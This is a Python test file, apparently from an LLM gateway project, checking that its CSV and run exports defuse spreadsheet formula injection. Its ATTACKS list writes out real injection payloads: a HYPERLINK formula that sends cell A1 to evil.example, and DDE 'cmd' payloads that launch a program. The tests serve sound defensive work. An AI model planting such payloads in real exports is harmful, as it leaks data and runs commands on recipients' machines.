"""Issue 24, finding 10: every CSV the gateway writes makes formula-looking text inert
(lfgate.storage.csv_export), for any text (Hypothesis), and the run and leaderboard exports
go through it (their real routes in tests/test_prompt_sets_api.py and test_compare_api.py)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from lfgate.storage.csv_export import FORMULA_START, csv_text, safe_cell
from lfgate.storage.run_export import run_csv

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.text(max_size=40))
def test_no_cell_read_back_starts_a_formula_and_the_text_is_kept(text):
    _, row = read(csv_text(["cell"], [[text]]))
    cell = row[0]
    assert not cell.startswith(FORMULA_START) or float(cell) == float(text)
    assert cell in (text, "'" + text)


def test_the_classic_attacks_are_inert_and_numbers_stay_numbers():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    for number in ("-0.5", "+3", "-12", 7, -3.25):
        assert safe_cell(number) == number
    assert safe_cell("-inf") == "'-inf" and safe_cell("plain") == "plain"


def test_a_run_export_neutralises_prompts_systems_references_and_replies():
    run = {"models": ["a", "b"], "rows": [{
        "index": 0, "prompt": ATTACKS[0], "system": ATTACKS[1], "reference": ATTACKS[3],
        "vote": {"winner": "0", "reason": None},
        "cells": [{"slot": 0, "model": "=a", "status": "complete", "content": ATTACKS[2],
                   "finish_reason": "stop", "ttft_ms": 1.5, "total_ms": 9.0,
                   "scores": {"bleu": 0.5}}]}]}
    header, row = read(run_csv(run))
    named = dict(zip(header, row, strict=True))
    for key in ("prompt", "system", "reference", "reply", "model"):
        assert named[key].startswith("'"), (key, named[key])
    assert named["bleu"] == "0.5000" and named["ttft_ms"] == "1.5"
